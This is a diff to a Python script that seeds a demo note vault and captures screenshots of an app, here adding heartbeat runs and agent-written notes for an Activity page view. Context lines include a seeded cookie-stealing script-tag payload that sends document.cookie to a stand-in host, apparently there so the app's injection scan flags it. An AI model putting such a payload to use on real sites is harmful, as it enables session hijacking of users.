@@ -14,6 +14,8 @@ a user would and grabs each view:
   fact-dialog.png      the fact editor (supersede)
   switcher.png         the quick switcher (Ctrl+P)
   review.png           the review queue: agent writes the injection scan held back
+  activity.png         the Activity page: the heartbeat's runs (one failed) and the recent
+                       writes of agents, the heartbeat and people
 """
 
 from __future__ import annotations
@@ -78,6 +80,37 @@ def queue_proposals(root: Path) -> None:
         "append_daily",
         text="Boiler serviced.<script>fetch('https://x.example/?c='+document.cookie)</script>",
     )
+
+
+def heartbeat_activity(root: Path) -> None:
+    """Real heartbeat runs and agent writes: the app's scheduled run over the demo's notes,
+    agents writing, a run stopped by a misconfigured endpoint, a catch-up run that picks
+    up the agents' notes, and the weekly synthesis."""
+    from vault_app.core import vault
+    from vault_app.heartbeat import run, service
+
+    runner = service.Runner(root, runner="app")
+    runner.tick()
+    runner.close()
+    finance = vault.Vault(root, actor="agent:finance")
+    finance.add_fact(
+        "agent:finance:projects/budget-review", "Insurance renewal is due on 2026-12-15", "status"
+    )
+    finance.append_daily(
+        "Remember that Marcus Bell prefers text messages to calls.", agent="finance"
+    )
+    maintenance = vault.Vault(root, actor="agent:maintenance")
+    maintenance.append_daily(
+        "Remember that Greg Lindqvist charges $95 an hour for roof repairs.", agent="maintenance"
+    )
+    target = vault.Vault(root, actor="gui")
+    settings = target.config
+    beat = settings.heartbeat.model_copy(update={"llm_base_url": "http://127.0.0.1:11434/v1"})
+    settings.model_copy(update={"heartbeat": beat}).save(target.storage)  # no model named
+    run.run_heartbeat(root, runner="cli", trigger="once")
+    settings.save(vault.Vault(root, actor="gui").storage)
+    run.run_heartbeat(root, runner="serve", trigger="catch-up")
+    run.run_synthesis(root, runner="serve", trigger="catch-up")
 
 
 def main() -> int:
@@ -166,6 +199,12 @@ def main() -> int:
         wait(app, lambda: window.review.model.rowCount() == 3)
         window.review.select(window.review.model.proposals()[1]["id"])
         shoot("review.png")
+
+        heartbeat_activity(root)
+        window.resize(1440, 900)
+        window.show_activity()
+        wait(app, lambda: any(r.job == "synthesis" for r in window.activity.runs_model.runs()))
+        shoot("activity.png")
         window.close()
         window.session.wait()
     return 0
